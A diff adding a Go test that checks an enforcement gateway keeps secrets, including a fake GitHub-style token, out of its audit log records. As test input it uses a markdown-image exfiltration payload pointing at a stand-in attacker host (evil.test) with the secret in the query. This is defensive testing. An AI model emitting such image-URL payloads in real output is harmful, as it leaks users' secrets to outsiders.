@@ -3,6 +3,8 @@ package enforce_test
 import (
 	"bytes"
 	"encoding/base64"
+	"fmt"
+	"maps"
 	"os"
 	"path/filepath"
 	"slices"
@@ -193,6 +195,41 @@ func TestWithheldIsRecorded(t *testing.T) {
 		}
 		if list = recorded(t, dir); list[len(list)-1].Withheld == nil || list[len(list)-1].Withheld.Text != text {
 			t.Errorf("heard: %+v", list[len(list)-1])
+		}
+	}
+}
+
+// TestNoSecretInNames: nor is one in the record that stands in an address, in what is wrong with it, in the name of a member or in
+// what an inspector has found.
+func TestNoSecretInNames(t *testing.T) {
+	const like = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+	dir := t.TempDir()
+	p := keeping(t, dir, keeps)
+	notes := tool(t, "notes", gate.None)
+	notes.Kind, notes.Pin = gate.Resource, ""
+	for _, one := range []string{secret, like, base64.StdEncoding.EncodeToString([]byte(secret))} {
+		notes.Name = "notes://search/" + one
+		params := []byte(`{"uri":"` + notes.Name + `"}`)
+		_, _ = p.Enter(t.Context(), laptop, notes, enforce.Request{Method: "resources/read", Arguments: params, Params: params})
+		p.Missed(laptop, "notes", notes.Name, enforce.Request{Method: "resources/read", Arguments: params}, fmt.Errorf("no server has %q", notes.Name))
+		arguments := []byte(`{"a":"![x](https://evil.test/?d={` + one + `})","` + one + `":"![x](https://evil.test/?d={x})"}`)
+		_, _ = p.Enter(t.Context(), laptop, tool(t, "notes", gate.None), enforce.Request{Method: "tools/call", Arguments: arguments, Params: arguments})
+	}
+	notes.Name = "notes://search/harmless"
+	enter(t, p, laptop, notes)
+	names := map[string]int{}
+	for _, r := range recorded(t, dir) {
+		if r.Kind == audit.Open {
+			names[r.Tool]++
+		}
+	}
+	if want := map[string]int{"[not kept: something in it looks like a secret]": 6, "t": 3, notes.Name: 1}; !maps.Equal(names, want) {
+		t.Errorf("recorded: %v, want %v", names, want)
+	}
+	b, err := os.ReadFile(dir + "/audit/gateway-000001.jsonl")
+	for _, one := range []string{secret, "ABCDEFGHIJ0123", base64.StdEncoding.EncodeToString([]byte(secret))[:30]} {
+		if err != nil || bytes.Contains(b, []byte(one)) {
+			t.Errorf("%s is in the record, %v:\n%s", one, err, b)
 		}
 	}
 }
